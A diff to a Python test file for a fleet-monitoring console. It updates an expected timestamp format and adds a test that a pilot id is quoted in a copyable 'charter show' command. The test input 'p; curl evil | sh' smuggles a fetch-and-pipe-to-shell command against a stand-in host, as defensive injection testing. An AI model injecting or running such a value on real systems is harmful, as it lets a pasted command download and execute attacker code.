@@ -10,6 +10,7 @@ import msgspec
 import pytest
 
 from monitor.console.board_json import as_data
+from monitor.console.charter_page import charter_page
 from monitor.console.fleet_page import SORTS, Query, fleet_page
 from monitor.console.fleet_view import FleetView
 from monitor.console.owner_liveness import OwnerLiveness
@@ -152,7 +153,7 @@ def test_a_period_of_seconds_has_two_ends() -> None:
     """A period that is not in whole minutes is written with seconds."""
     finding = Finding(indicator="i", rule="limit", statistic=9.0, bar=7.0, period_start=5_000, period_end=10_000)
     page = pilot_page(fed(decision(1, finding=finding)), "p-1") or ""
-    assert "period 1970-01-01 00:00:05 to 1970-01-01 00:00:10" in page
+    assert "period 1970-01-01 00:00:05 to 00:00:10 UTC" in page
 
 
 def test_worst_comes_first_and_those_that_left_last() -> None:
@@ -328,3 +329,12 @@ def test_the_page_shows_the_alpha_used_and_the_alpha_that_may_be_spent() -> None
     page = pilot_page(board, "p-1") or ""
     assert f"Run 2 of the statistics: alpha {first} of 0.01 is used" in page
     assert f'<td data-head="Alpha used" class="number">{first} of 0.01</td>' in fleet_page(board)
+
+
+def test_a_command_to_copy_quotes_the_id_of_a_pilot() -> None:
+    """A firm chooses the id; a reader who pastes the command runs nothing else."""
+    board = FleetView()
+    board.apply(Outputs(decisions=[decision(1, "p; curl evil | sh")]))
+    page = charter_page(board, "p; curl evil | sh", 0)
+    assert page is not None
+    assert "charter show &#39;p; curl evil | sh&#39;" in page
